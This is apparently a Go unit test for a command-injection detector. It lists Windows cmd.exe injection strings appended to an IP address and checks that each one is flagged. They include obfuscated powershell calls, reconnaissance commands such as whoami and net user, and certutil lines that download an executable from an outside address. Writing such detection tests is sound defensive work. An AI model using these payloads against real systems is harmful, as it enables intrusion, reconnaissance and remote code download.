package rce

import (
	"testing"

	"github.com/weirnode/weir/detect/evidence"
	"github.com/weirnode/weir/point"
)

// TestWindowsCommand reads command lines that cmd.exe was seen to run. (Mutators of a shell of Unix would
// break them, so they are no hits of testdata.)
func TestWindowsCommand(t *testing.T) {
	for _, text := range []string{
		`127.0.0.1&<nul tasklist`,
		`127.0.0.1 & <nul ipconfig,/all #`,
		`127.0.0.1&(c:\windows\system32\tasklist)`,
		`127.0.0.1" && @%SystemRoot%\systeminfo.exe`,
		`127.0.0.1) & if 1==1 \windows\system32\quser&`,
		`127.0.0.1&&@p^owershell=-nop -c ls`,
		`127.0.0.1||cmd /q/c powershell`,
		`127.0.0.1&\windows\.\net localgroup administrators`,
		`127.0.0.1&c:/windows/system32/../system32/net1 user`,
		`127.0.0.1 & ^cer^t^u^til=-urlcache -f http://198.51.100.7/a a.exe&`,
		`127.0.0.1|call %SystemRoot%\bitsadmin`,
		`127.0.0.1 & echo certutil|cmd`,
		`127.0.0.1&(echo w""mic os get|cmd)`,
		`127.0.0.1&rundll32 a.dll,b`,
		`127.0.0.1|^reg=query HKLM 2>&1`,
		`127.0.0.1"|if defined os \windows\.\i^pconfig /all&`,
		`127.0.0.1||netstat;-an`,
		`127.0.0.1&start /b "" certutil,-urlcache -f http://198.51.100.7/a a.exe`,
		`127.0.0.1&(if not 1==2 ipconfig)`,
		`127.0.0.1&"certut"il=-urlcache -f http://198.51.100.7/a a.exe`,
		`127.0.0.1&(^po^w^e^r%windir:^~9^,1%he^ll&::)`,
		`127.0.0.1&%comspec%/c whoami`,
		"127.0.0.1\n2>nul systeminfo",
	} {
		if got := detector.Read(text, point.Text); got.Score() < evidence.Threshold {
			t.Errorf("%s scores %d", text, got.Score())
		}
	}
}
